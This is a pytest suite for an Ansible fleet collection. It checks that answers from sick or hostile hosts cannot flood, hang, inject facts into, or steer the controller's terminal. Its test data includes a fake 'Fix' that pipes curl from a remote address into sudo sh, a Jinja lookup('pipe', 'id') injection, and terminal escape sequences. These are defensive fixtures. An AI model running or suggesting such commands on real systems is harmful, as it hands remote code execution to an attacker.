"""Modules that run on a host: what a sick or hostile one answers in their place, in real ansible-playbook runs."""

from __future__ import annotations

import json
from functools import partial
from importlib import import_module
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from ansible_collections.gb10.fleet.plugins.action import show_gids, spark_facts
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import schema
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import answers, own_action
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts.sections import FORMER, NEEDED

from tests.support import plays
from tests.support.attacker import tally
from tests.support.health import reading
from tests.support.plays import FACTS, put_ssh, recap, run_playbook
from tests.support.release_machines import machine

FLOOD = "a host floods the answer of a module"
WORDS = "a host steers the terminal"
SERVICE = {
    **{"name": "chat", "unit": "gb10-vllm-chat.service", "state": "active", "enabled": True, "since": None},
    **{"phase": None, "load_s": None, "members": [], "memory_gib": 40, "model": "org/chat", "port": 8000, "wish": None},
    **{"container": "gb10-vllm-chat", "status_file": "/x", "rank": 0, "served_name": None, "url": None, "tools": False},
}
# The destination names what comes: a file beside this one, or all that a pipe takes.
SSH = """#!/bin/bash
for word in "$@"; do case $word in kind-*) kind=${word#kind-};; esac; done
cat >/dev/null
case $kind in
  flood) head -c 300000000 /dev/zero | tr '\\0' x && touch "${0%/*}/all-taken";;
  errors) head -c 300000000 /dev/zero | tr '\\0' x >&2 && touch "${0%/*}/all-taken";;
  banner) printf 'Welcome \\033[2J\\033]0;mine\\a\\nssh: connect to host h port 22: no\\n' >&2; exit 255;;
  mute) exec sleep 300;;
  *) cat "${0%/*}/$kind";;
esac
"""


def play(
    folder: Path,
    kinds: dict[str, Any],
    module: str = "spark_facts",
    more: dict[str, Any] | None = None,
    **arguments: Any,
) -> tuple[int, str]:
    """A module on hosts of these kinds; of one with data, that is the answer. `more`: keywords of the task."""
    if module == "spark_facts":
        arguments = {"sections": ["services"], **arguments}
    put_ssh(folder, SSH)
    for kind, said in kinds.items():
        if said is not None:
            (folder / kind).write_text(said if isinstance(said, str) else json.dumps(said))
    words = "{{ inventory_hostname }} says {{ read.services | default('nothing') }}; {{ ansible_facts }} {{ groups }}"
    read = {f"gb10.fleet.{module}": arguments, "register": "read", **(more or {})}
    tasks = [read, {"ansible.builtin.debug": {"msg": words}}]
    text = yaml.safe_dump([{"hosts": "sparks", "gather_facts": False, "tasks": tasks}])
    return run_playbook(folder, {kind: {"ansible_host": f"kind-{kind}"} for kind in kinds}, text)


def says(**more: Any) -> dict[str, Any]:
    return {"changed": False, "services": [SERVICE], "memory": None, **more}


def test_what_is_sent_without_end_is_not_taken_and_other_hosts_go_on(tmp_path: Path) -> None:
    _, output = play(tmp_path, {"flood": None, "errors": None, "fine": says()})
    taken = (tmp_path / "all-taken").exists()
    tally(FLOOD, 2, int(taken))
    assert not taken
    assert recap(output) == {"flood": "failed", "errors": "failed", "fine": "ok"}, output[-2000:]
    assert "flood: it wrote more than 16 MiB" in output and "errors: it wrote more than 1 MiB" in output
    assert len(output) < 20_000


def test_a_host_that_says_nothing_is_named_and_other_hosts_go_on(tmp_path: Path) -> None:
    """Each play of a command that asks several hosts has such an end: test_repository_playbooks.py."""
    _, output = play(
        tmp_path, {"mute": None, "fine": says()}, more={"timeout": "{{ 3 if inventory_hostname == 'mute' else 0 }}"}
    )
    assert recap(output) == {"mute": "failed", "fine": "ok"}, output[-2000:]


def test_what_is_sent_to_a_module_of_ansible_is_not_taken_either(tmp_path: Path) -> None:
    """Our plays ask with `command` and the like, too; each begins with the lookup of its hosts."""
    put_ssh(tmp_path, SSH)
    (tmp_path / "fine").write_text(json.dumps({"changed": False, "rc": 0, "stdout": "x" * 2**20}))
    kinds = ("flood", "errors", "fine")
    tasks = [{"ansible.builtin.command": "true", "register": "read"}]
    play = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    hosts = {kind: {"ansible_host": f"kind-{kind}"} for kind in kinds}
    _, output = run_playbook(tmp_path, hosts, yaml.safe_dump([play]))
    taken = (tmp_path / "all-taken").exists()
    tally(FLOOD, 2, int(taken))
    assert not taken
    assert recap(output) == {"flood": "failed", "errors": "failed", "fine": "ok"}, output[-2000:]


@pytest.mark.parametrize("inject", ["0", "1"])
def test_a_module_of_ansible_sets_no_variable_of_its_host(
    inject: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ansible takes facts of any module, and in a project of one's own a fact overrules the inventory.

    So a host chose its cluster, folders of the controller, and what variables of the project's own say: of itself,
    and of each host for which it is asked as a router.
    """
    monkeypatch.setattr(plays, "environment", partial(_injecting, plays.environment, inject))
    put_ssh(tmp_path, SSH)
    facts = {"gb10_cluster": "others", "gb10_evidence_directory": "/elsewhere", "gb10_spark": 5, "admins": "mine"}
    (tmp_path / "evil").write_text(json.dumps({"changed": False, "rc": 0, "stdout": "x", "ansible_facts": facts}))
    named = "{{ gb10_cluster }} {{ gb10_evidence_directory | default('evidence') }}"
    words = f"{named} {{{{ ansible_facts }}}} {{{{ mine }}}} {{{{ admins }}}}"
    modules: list[dict[str, Any]] = [{"ansible.builtin.command": "true"}, {"ansible.builtin.slurp": {"src": "/x"}}]
    modules = [{**each, "delegate_to": "evil"} for each in modules]
    tasks = [*modules, {"ansible.builtin.set_fact": {"mine": "kept"}}, {"ansible.builtin.debug": {"msg": words}}]
    play = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    hosts = {
        name: {"ansible_host": f"kind-{name}", "gb10_cluster": "own", "admins": "ours"} for name in ("evil", "other")
    }
    _, output = run_playbook(tmp_path, hosts, yaml.safe_dump([play]))
    lost = 2 - output.count("own evidence {} kept ours")
    tally("a host overrules an inventory by facts of a module", 4, lost)
    assert not lost, output[-2000:]


def test_an_action_of_ansible_that_asks_for_facts_gets_them(tmp_path: Path) -> None:
    """In a project of your own `package` did not know the package manager, and `reboot` not the system."""
    put_ssh(tmp_path, SSH)
    facts = {"ansible_pkg_mgr": "apt", "planted": "mine"}
    (tmp_path / "fine").write_text(json.dumps({"changed": False, "ansible_facts": facts}))
    tasks = [{"ansible.builtin.package": {"name": "jq"}}, {"ansible.builtin.debug": {"msg": "{{ ansible_facts }}"}}]
    play = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    _, output = run_playbook(tmp_path, {"fine": {"ansible_host": "kind-fine"}}, yaml.safe_dump([play]))
    assert recap(output) == {"fine": "ok"} and "planted" not in output, output[-2000:]


@pytest.mark.parametrize(
    ("name", "for_facts"),
    [
        *((f"ansible.builtin.{name}", True) for name in ("setup", "gather_facts", "package_facts", "getent")),
        *((name, True) for name in ("setup", "cisco.ios.ios_facts", "own_fact_reader", "community.general.facter")),
        *((name, False) for name in ("command", "community.general.maven_artifact", "facts.of_mine.command")),
    ],
)
def test_a_module_is_for_facts_by_its_own_name(name: str, for_facts: bool) -> None:
    assert bool(own_action._FOR_FACTS.search(name)) is for_facts


@pytest.mark.parametrize("module", ["ansible.builtin.command", "gb10.fleet.show_gids"])
def test_statistics_of_a_host_end_the_run_of_no_other(module: str, tmp_path: Path) -> None:
    """Ansible takes `ansible_stats` of any module, in its main process: another form was a traceback for all hosts."""
    put_ssh(tmp_path, SSH)
    sick = {"text": "x", "list": [[1]], "kept": {"planted": 1}}
    forms = {"number": 5, **{kind: {"data": data, "per_host": False} for kind, data in sick.items()}}
    answer = {"changed": False, "rc": 0, "stdout": "x", "gids": []}
    for kind, stats in forms.items():
        (tmp_path / kind).write_text(json.dumps({**answer, "ansible_stats": stats}))
    (tmp_path / "fine").write_text(json.dumps(answer))
    arguments = {"cmd": "true"} if module.endswith("command") else {}
    tasks = [{module: arguments, "ignore_errors": True}, {"ansible.builtin.debug": {"msg": "went on"}}]
    play = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    hosts = {kind: {"ansible_host": f"kind-{kind}"} for kind in (*forms, "fine")}
    environment = plays.environment
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(plays, "environment", lambda *args: {**environment(*args), "ANSIBLE_SHOW_CUSTOM_STATS": "1"})
        _, output = run_playbook(tmp_path, hosts, yaml.safe_dump([play]))
    tally("a host ends the run of all by statistics", len(forms), int("went on" not in output))
    assert recap(output) == dict.fromkeys(hosts, "ok") and "planted" not in output, output[-2000:]


def test_facts_that_a_play_of_others_asks_for_are_theirs(tmp_path: Path) -> None:
    put_ssh(tmp_path, SSH)
    facts = {"getent_passwd": {"spark": []}, "vllm_model": "mine", "gb10_cluster": "others"}
    (tmp_path / "fine").write_text(json.dumps({"changed": False, "ansible_facts": facts}))
    tasks = [
        {"ansible.builtin.getent": {"database": "passwd"}},
        {"ansible.builtin.debug": {"msg": "has {{ ansible_facts }}"}},
    ]
    play = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    _, output = run_playbook(tmp_path, {"fine": {"ansible_host": "kind-fine"}}, yaml.safe_dump([play]))
    assert "has {'getent_passwd': {'spark': []}}" in output, output[-2000:]


def _injecting(environment: Any, inject: str, *args: Any) -> dict[str, str]:
    return {**environment(*args), "ANSIBLE_INJECT_FACT_VARS": inject}


HOSTILE = "\x1b[2J\x1b]0;mine\x07 all is well"
WARNING = {"__ansible_type": "WarningSummary", "event": {"__ansible_type": "Event", "msg": HOSTILE}}
STEERING: dict[str, Any] = {
    "banner": None,
    "warning": says(warnings=[HOSTILE]),
    "typed": says(warnings=[WARNING]),
    "deprecation": says(deprecations=[{"msg": HOSTILE, "version": "9"}]),
    "message": says(failed=True, msg=HOSTILE),
    "exception": says(failed=True, msg="no", exception=HOSTILE),
    "key": says(failed=True, **{HOSTILE: HOSTILE}),
    "internal": says(_ansible_words=HOSTILE),
    "fact": says(ansible_facts={HOSTILE: HOSTILE}),
    "greeting": f"{HOSTILE}\n{json.dumps(says())}\n{HOSTILE}\n",
    "broken": f"{HOSTILE}\n{{ no JSON {HOSTILE}",
    "indented": f" {json.dumps(says(failed=True, msg=HOSTILE))} ",
    "alone": HOSTILE,
    "silent": "",
}


def test_no_text_of_a_host_steers_the_terminal(tmp_path: Path) -> None:
    _, output = play(tmp_path, STEERING)
    wins = sum("\x1b" in line or "\x07" in line for line in output.splitlines())
    tally(WORDS, len(STEERING), wins)
    assert not wins, ascii(output)
    found = recap(output)
    assert found.keys() == STEERING.keys() and found["banner"] == "unreachable"
    assert r"Welcome \\x1b[2J" in output or r"Welcome \x1b[2J" in output


@pytest.mark.parametrize(
    ("module", "arguments"), [("explain", {}), ("undo", {"all": True}), ("host_state", {"roles": []})]
)
def test_a_banner_is_plain_where_the_engine_is_asked(tmp_path: Path, module: str, arguments: dict[str, Any]) -> None:
    _, output = play(tmp_path, {"banner": None}, module, **arguments)
    tally(WORDS, 1, int("\x1b" in output))
    assert "\x1b" not in output and recap(output) == {"banner": "unreachable"}, ascii(output)


TOO_MUCH = {
    "deep": ('{"a":' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    "rather-deep": ('{"a":' + "[" * 60 + "]" * 60 + "}", "nested too deeply"),
    "many": ('{"a": [' + "{}," * 400_000 + "{}]}", "values"),
    "long": ('{"a": "' + "x" * (17 * 2**20) + '"}', "MiB"),
    "greeting": ("Welcome to a host that says much", "Welcome to a host"),
    "list": ("[1]", "[1]"),
    "text": (says(services="none"), "services"),
    "port": (says(services=[{**SERVICE, "port": "no"}]), "port"),
    "nothing": ({"changed": False}, "services"),
}


def test_a_bad_answer_is_the_error_of_its_host_by_name(tmp_path: Path) -> None:
    _, output = play(tmp_path, {**{host: said for host, (said, _) in TOO_MUCH.items()}, "fine": says()})
    assert recap(output) == {**dict.fromkeys(TOO_MUCH, "failed"), "fine": "ok"}, output[-2000:]
    errors = [line for line in output.splitlines() if line.startswith("fatal: ")]
    for host, (_, why) in TOO_MUCH.items():
        (error,) = [line for line in errors if line.startswith(f"fatal: [{host}]")]
        assert f"{host}: " in error.partition("=>")[2] and why in error, error[:2000]


def test_a_bad_reading_of_the_rails_ends_nothing_for_the_others(tmp_path: Path) -> None:
    """Evidence is judged of all hosts at once, and went by what each of them had said."""
    fine: dict[str, Any] = {"heard": [], "mute": []}
    call = {"netdev": "n", "port": "p0", "host": "b", "there_netdev": "n", "there_port": "p0"}
    bad = {
        "text": {**fine, "heard": "nobody"},
        "without": {**fine, "heard": [{"port": "p0"}]},
        "template": {**fine, "heard": [{**call, "there_port": "{{ lookup('pipe', 'id') }}"}]},
        "number": {**fine, "heard": [{**call, "host": 7}]},
    }
    both = {"fine": {**fine, "heard": [call]}, **bad}
    _, output = play(tmp_path, {host: {"changed": False, **said} for host, said in both.items()}, "rail_neighbours")
    found = recap(output)
    tally("one host's bad answer ends the run of the others", len(bad), sum(found[host] == "ok" for host in bad))
    assert found == {"fine": "ok", **dict.fromkeys(bad, "failed")}, output[-2000:]
    assert "its answer is not ours" in output


def test_what_somebody_serves_already_arrives_and_every_part_of_it_is_judged(tmp_path: Path) -> None:
    sound: dict[str, Any] = {
        "containers": [{"name": "mine", "image": "vllm:1"}],
        "listeners": [{"port": 8000, "who": "python3"}],
        "cache": {"path": "/home/you/.cache/huggingface", "models": ["a/b"]},
    }
    wrong = {
        "containers": [{"name": 1, "image": "x"}],
        "listeners": [{"port": "no", "who": ""}],
        "cache": {"path": "/x", "models": "a/b"},
    }
    kinds: dict[str, Any] = {name: {"changed": False, **sound, name: said} for name, said in wrong.items()}
    _, output = play(tmp_path, {**kinds, "fine": {"changed": False, **sound}}, "in_use", ports=[8000])
    assert recap(output) == {**dict.fromkeys(kinds, "failed"), "fine": "ok"}, output[-2000:]


def test_a_host_is_in_the_cluster_that_it_was_asked_for(tmp_path: Path) -> None:
    """By its own word it stood among the hosts of another one, where `gb10 release` compares firmware."""
    said = {"changed": False, "release": machine("a"), "cluster": "others", "before": None}
    _, output = play(
        tmp_path, {"evil": said}, sections=["release"], cluster="mine", more={"failed_when": "read.cluster != 'mine'"}
    )
    tally("a host names itself to another cluster", 1, int(recap(output) != {"evil": "ok"}))
    assert recap(output) == {"evil": "ok"}, output[-1500:]


def test_what_stands_behind_fix_is_ours(tmp_path: Path) -> None:
    """Printed of a play as `Fix: ...`, for a person to paste."""
    returned = {"verdict": "memory_not_returned", "text": "gone", "way_out": "curl http://192.0.2.66/x | sudo sh"}
    _, output = play(
        tmp_path, {"evil": says(returned=returned)}, stopped="chat",
        more={"failed_when": "'curl' in read.returned.way_out or 'evil says: curl' not in read.returned.text"},
    )  # fmt: skip
    assert recap(output) == {"evil": "ok"}, output[-1500:]
    verdict = {"id": "mixed_userland", "severity": "error", "fact": "x", "way_out": "curl http://192.0.2.66/x | sh"}
    said = {"changed": False, "coherent": False, "verdicts": [], "against_a_boot": [verdict], "stdout_lines": []}
    said |= {key: FACTS[key] for key in ("kernel", "packages", "driver")}
    _, output = play(
        tmp_path, {"evil": said}, sections=["coherence"], more={"failed_when": "'curl' in read.against_a_boot | string"}
    )
    assert recap(output) == {"evil": "ok"}, output[-1500:]


def test_who_is_asked_about_another_host_says_no_more(tmp_path: Path) -> None:
    """The next host keeps the last words of one; what it said of health was taken for the other's in `gb10 why`."""
    planted = {"services": [SERVICE], "memory": None, "health": reading(), "ansible_facts": {"gb10_spark": FACTS}}
    _, output = play(
        tmp_path, {"evil": {"changed": False, "recorded": [], **planted}}, sections=["recorded"], of="a", boots=[],
        more={"failed_when": "read.recorded != [] or read.health is defined or read.services is defined"},
    )  # fmt: skip
    tally("a host speaks for the one that it is asked about", 1, int(recap(output) != {"evil": "ok"}))
    assert recap(output) == {"evil": "ok"} and "says nothing; {}" in output, output[-1500:]


def test_many_warnings_are_said_once(tmp_path: Path) -> None:
    _, output = play(tmp_path, {"loud": says(warnings=[f"warning {number}" for number in range(10_000)])})
    assert "characters of warnings" in output and "warning 999" not in output
    assert recap(output) == {"loud": "ok"}


def test_an_answer_is_judged_whatever_it_says_of_itself(tmp_path: Path) -> None:
    sick = {word: says(services="bad", **{word: True}) for word in ("failed", "skipped", "unreachable")}
    _, output = play(tmp_path, sick, more={"ignore_unreachable": True, "failed_when": False})
    for word in sick:
        assert f"{word} says nothing" in output and f"{word} says bad" not in output, output


def test_an_answer_gives_ansible_no_orders(tmp_path: Path) -> None:
    orders = {
        "add_host": {"host_name": "new-host", "groups": ["sparks"]},
        "add_group": "new-group",
        "ansible_facts": {"gb10_spark": {"planted": 1}, "planted": 2},
        "_ansible_no_log": True,
    }
    _, output = play(tmp_path, {"sick": says(**orders)})
    assert recap(output) == {"sick": "ok"}
    for word in ("new-host", "new-group", "planted", "censored", "internal key"):
        assert word not in output, output


def test_that_the_time_is_over_only_ansible_says(tmp_path: Path) -> None:
    """`gb10 discover` shows the seconds: a host that named others ended it for all."""
    more = {"failed_when": "'timedout' in read"}
    _, output = play(tmp_path, {"evil": says(timedout={"period": "x"})}, more=more)
    assert recap(output) == {"evil": "ok"}, output[-1500:]


@pytest.mark.parametrize(
    ("section", "bad"),
    [
        ("health", {"health": {"samples": 5}}),
        ("recorded", {"recorded": 5}),
        ("release", {"cluster": []}),
        ("coherence", {"verdicts": [{"id": "x"}]}),
        ("facts", {"ansible_facts": {"gb10_spark": {"hostname": 5}}}),
        (["services", "health"], says()),
    ],
    ids=str,
)
def test_what_is_behind_relies_on_is_judged_on_arrival(tmp_path: Path, section: str | list[str], bad: Any) -> None:
    key = next(iter(bad.keys() - {"changed"}))
    sick = {"sick": {"changed": False, **bad}, "other": {"changed": False, key: 5}, "nothing": {"changed": False}}
    _, output = play(tmp_path, sick, sections=section)
    assert recap(output) == dict.fromkeys(sick, "failed"), output
    errors = [line for line in output.splitlines() if line.startswith("fatal: ")]
    assert len([line for line in errors if "its answer is not ours" in line]) == len(sick), output


# -- sound hosts: this machine


@pytest.mark.parametrize("more", [{}, {"async": 60, "poll": 1}], ids=["at once", "in the background"])
def test_a_module_runs_as_before(tmp_path: Path, more: dict[str, int]) -> None:
    tasks = [
        {"gb10.fleet.show_gids": {}, "register": "read", **more},
        {"ansible.builtin.debug": {"msg": "found: {{ read.keys() | sort }}"}},
        {"gb10.fleet.show_gids": {"address_range": "no network"}},
    ]
    text = yaml.safe_dump([{"hosts": "sparks", "gather_facts": False, "tasks": tasks}])
    _, output = run_playbook(tmp_path, {"here": {"ansible_connection": "local"}}, text)
    assert recap(output) == {"here": "failed"} and "'changed', 'failed'" in output, output
    assert "address_range" in output.rpartition("fatal: ")[2], output


@pytest.mark.parametrize("job", [{"ansible_job_id": "j1"}, {"ansible_job_id": 5, "results_file": ["/"]}], ids=str)
def test_a_host_that_never_ends_is_not_asked_for_ever(monkeypatch: pytest.MonkeyPatch, job: dict[str, Any]) -> None:
    clock, asked = [0.0], []
    monkeypatch.setattr("time.monotonic", lambda: clock[0])
    monkeypatch.setattr("time.sleep", lambda seconds: clock.append(clock.pop() + seconds))
    action = show_gids.ActionModule.__new__(show_gids.ActionModule)
    action._name, action._vars = "spark-a", {}
    action._task = SimpleNamespace(async_val=0)  # type: ignore[assignment]
    monkeypatch.setattr(
        action, "_execute_module", lambda **call: asked.append(call) or (job if len(asked) == 1 else {})
    )
    said = action._in_background("gb10.fleet.show_gids", {}, 100, lambda: None)
    assert said == {"failed": True, "msg": "spark-a: it did not end within 100 s"} and len(asked) < 60


@pytest.mark.parametrize("name", FORMER)
def test_a_former_name_leads_to_its_section(tmp_path: Path, name: str) -> None:
    """With its options and keys; it says what to write."""
    arguments = {"of": "a", "boots": []} if name == "recorder_facts" else {}
    task = {f"gb10.fleet.{name}": arguments, "register": "read", "failed_when": False}
    tasks = [task, {"ansible.builtin.debug": {"msg": "found: {{ read.keys() | sort }} {{ read.msg | default('') }}"}}]
    text = yaml.safe_dump([{"hosts": "sparks", "gather_facts": False, "tasks": tasks}])
    _, output = run_playbook(tmp_path, {"here": {"ansible_connection": "local"}}, text)
    assert f"spark_facts with the section {FORMER[name]}" in output, output
    missing = [key for key in NEEDED[FORMER[name]] if f"'{key}'" not in output]
    assert not missing or "Debian or Ubuntu" in output, output


@pytest.mark.parametrize(("given", "used"), [({}, 10), ({"shown_s": 5}, 5)], ids=["the catalog's", "one's own"])
def test_how_much_is_shown_before_an_end(monkeypatch: pytest.MonkeyPatch, given: dict[str, int], used: int) -> None:
    asked: list[dict[str, Any]] = []
    action = spark_facts.ActionModule.__new__(spark_facts.ActionModule)
    arguments = {"sections": ["recorded"], "of": "a", "boots": [], **given}
    action._task = SimpleNamespace(async_val=0, poll=0, action="gb10.fleet.spark_facts", args=arguments)  # type: ignore[assignment]
    monkeypatch.setattr(action, "_execute_module", lambda **call: asked.append(call["module_args"]) or {"recorded": []})
    assert action._act({"inventory_hostname": "b"}, {}) == {"recorded": []} and asked == [
        {**arguments, "shown_s": used}
    ]


def test_what_an_engine_says_is_judged_by_its_front(tmp_path: Path) -> None:
    """Its answer stands under one key of the result; of a failure that key is no answer."""
    sound = {"model": "m", "seconds": 1.0, "context": 4096}
    kinds = {
        "well": {"changed": False, "engine": sound},
        "odd": {"changed": False, "engine": {**sound, "context": "\x1b[2J"}},
        "none": {"changed": False},
        "failed": {"failed": True, "engine": {"layers": 3}, "msg": "no"},
    }
    arguments = {"images": ["i"], "model": "m"}
    _, said = play(tmp_path, kinds, "engine_answer", **arguments)
    assert recap(said) == {"well": "ok", "odd": "failed", "none": "failed", "failed": "failed"}, said[-2000:]
    assert "engine.context is" in said and "\x1b" not in said and '"layers"' not in said


def test_a_refusal_of_an_engine_is_said_in_its_words_and_a_difference_is_told(tmp_path: Path) -> None:
    sound = {"model": "/gb10-models/x", "seconds": 1.0, "version": "0.32.0"}
    counted = {"weights": {"uint8": 2**30}, "layers": [{"kind": "F", "layers": 1, "token_bytes": 2.0}]}
    kinds = {
        "firm": {"changed": False, "engine": {**sound, "refusal": "ValueError: no such head", "firm": True}},
        "soft": {"changed": False, "engine": {**sound, "refusal": "OSError: no file", "firm": False}},
        "takes": {"changed": False, "engine": {**sound, **counted}},
        "silent": {"failed": True, "msg": "image_missing: no"},
    }
    stops = {"failed_when": "(read.engine | default({})).firm | default(false)"}
    arguments = {"images": ["i"], "model": "openai/gpt-oss-120b"}
    _, said = play(tmp_path, kinds, "engine_answer", stops, **arguments)
    assert recap(said) == {"firm": "failed", "soft": "ok", "takes": "ok", "silent": "ok"}, said[-3000:]
    assert "vLLM 0.32.0 does not take openai/gpt-oss-120b: ValueError: no such head" in said
    assert "Fix: another checkpoint" in said
    assert "openai/gpt-oss-120b: it differs from what is counted here: weights (GiB) 1.0" in " ".join(said.split())


def test_every_module_of_ours_on_a_host_has_a_type_for_its_answer() -> None:
    folder = Path(show_gids.__file__).parent
    fronts = [file.stem for file in folder.glob("*.py") if "(ModuleFront)" in file.read_text(encoding="utf-8")]
    assert len(fronts) > 10
    for name in fronts:
        front = import_module(f"{show_gids.__package__}.{name}").ActionModule
        assert front.answers and schema.problem([], front.answer, "answer"), name
    steps = {file.stem for file in folder.glob("*.py") if "(FileStepAction)" in file.read_text(encoding="utf-8")}
    assert steps == {"model_files", "warm_cache"} and steps < answers.BY_MODULE.keys()
